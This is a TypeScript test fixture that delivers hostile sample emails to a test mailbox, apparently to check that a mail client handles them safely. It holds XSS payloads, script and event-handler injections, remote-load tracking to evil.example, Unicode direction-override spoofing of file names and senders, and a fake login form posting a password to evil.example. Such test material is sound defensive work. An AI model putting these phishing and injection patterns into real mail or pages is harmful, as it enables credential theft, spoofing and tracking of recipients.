import { type Harness } from './harness';
import { mail } from './mail';

/** Mail that tries to look like something else. */
export async function hostileMail({ admin }: Pick<Harness, 'admin'>): Promise<void> {
  const subjects = [
    'Invoice \u202Egpj.exe\u202C for you',
    'Pass\u200Bword re\u200Bset \u2066now\u2069',
    'عاجل: يرجى تأكيد حسابك',
    `Very ${'long '.repeat(120)}subject`,
    '<img src=x onerror=alert(1)>',
    '',
  ];
  for (const [at, subject] of subjects.entries()) {
    const raw = mail({
      subject: encode(subject),
      id: `hostile-${at}`,
      attachment: `hostile-${at}`,
      to: 'person1@corp.example',
      from: at % 2 === 0 ? 'a\u202Emoc.knab@evil.example' : 'pay@evil.example',
    });
    await admin.deliver({
      mailbox: 'person1@corp.example',
      folder: 'inbox',
      flags: [],
      receivedAt: new Date(Date.now() - at * 60_000),
      raw,
    });
  }
}

/** A mail with script, remote images and turned text, and one of ten million characters; gives their ids. */
export async function hostileHtml({
  admin,
}: Pick<Harness, 'admin'>): Promise<{ readonly id: string; readonly large: string }> {
  const deliver = async (html: string): Promise<string> => {
    const raw = Buffer.from(
      [
        ...['From: Bank <a@evil.example>', 'To: person1@corp.example', 'Subject: Your account', 'MIME-Version: 1.0'],
        ...['Content-Type: text/html; charset=utf-8', '', html, ''],
      ].join('\r\n'),
    );
    const place = { mailbox: 'person1@corp.example', folder: 'inbox', flags: [], receivedAt: new Date() };
    return (await admin.deliver({ ...place, raw }))._id;
  };
  const id = await deliver(
    [
      '<link rel="stylesheet" href="https://evil.example/a.css"><style>body{background:url(https://evil.example/b)}</style>',
      '<script>window.ran = top.ran = true</script><svg onload="top.ran = true"></svg>',
      '<img src="https://evil.example/pixel.png" onerror="top.ran = true"><iframe src="https://evil.example/"></iframe>',
      '<p onclick="top.ran = true">Dear customer, open \u202Egpj.exe\u202C</p>',
      '<form action="https://evil.example/"><input name="password"><button>Sign in</button></form>',
    ].join('\n'),
  );
  return { id, large: await deliver(`<p>${'a very long mail '.repeat(600_000)}</p>`) };
}

function encode(text: string): string {
  return `=?utf-8?B?${Buffer.from(text).toString('base64')}?=`;
}
